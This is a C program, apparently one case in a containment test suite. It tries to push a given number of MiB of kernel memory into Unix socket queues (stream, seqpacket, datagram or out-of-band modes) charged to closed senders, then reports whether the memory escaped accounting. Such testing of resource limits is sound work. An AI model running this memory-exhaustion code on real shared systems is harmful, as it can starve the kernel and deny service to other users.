// I-66: messages in queues of Unix sockets, which are charged to the sockets that sent them, and those are closed: argv[1] MiB, argv[2]: stream, packets,
// datagrams (which need a socket with a name), or urgent: every other message is a byte out of band that was read, and leaves 768 bytes of the kernel's. It
// waits then for argv[3] milliseconds.
#include "attack.h"

#include <sys/socket.h>
#include <sys/un.h>

static char block[100000];

static size_t fill(int s) {
        int size = 8 << 20;
        size_t got = 0;

        setsockopt(s, SOL_SOCKET, SO_SNDBUF, &size, sizeof size);
        for (ssize_t n; (n = send(s, block, sizeof block, MSG_DONTWAIT)) > 0;)
                got += (size_t)n;
        close(s);
        return got;
}

static size_t datagrams(int i) {
        struct sockaddr_un a = {.sun_family = AF_UNIX};
        int to = socket(AF_UNIX, SOCK_DGRAM, 0);
        size_t got = 0;

        snprintf(a.sun_path + 1, sizeof a.sun_path - 1, "mem-sent-%d-%d", getpid(), i);
        if (to < 0 || bind(to, (struct sockaddr *)&a, sizeof a) < 0)
                return 0;
        for (int k = 0; k < 11; k++) {
                int s = socket(AF_UNIX, SOCK_DGRAM, 0);
                if (connect(s, (struct sockaddr *)&a, sizeof a) == 0)
                        got += fill(s);
                else
                        close(s);
        }
        return got;
}

static size_t pair(int type) {
        int s[2];

        return socketpair(AF_UNIX, type, 0, s) < 0 ? 0 : fill(s[0]);
}

static size_t urgent(void) {
        size_t n = 0;
        char byte;
        int s[2];

        if (socketpair(AF_UNIX, SOCK_STREAM, 0, s) < 0)
                return 0;
        while (send(s[0], "x", 1, MSG_OOB | MSG_DONTWAIT) > 0 && recv(s[1], &byte, 1, MSG_OOB) > 0 && send(s[0], "x", 1, MSG_DONTWAIT) > 0)
                n += 2;
        close(s[0]);
        return n * 768;
}

int main(int argc, char **argv) {
        size_t mib = (size_t)atoi(arg(argc, argv, 1)), got = 0, more = 1;
        char way = *arg(argc, argv, 2);

        for (int i = 0; more > 0 && got < mib << 20; i++) {
                more = way == 'u' ? urgent() : way == 'd' ? datagrams(i) : pair(way == 's' ? SOCK_STREAM : SOCK_SEQPACKET);
                got += more;
        }
        if (argc > 3)
                sleep_msec(atol(argv[3]));
        if (got < mib << 20)
                contained("%zu KiB in queues", got >> 10);
        escaped("%zu MiB in queues", got >> 20);
}
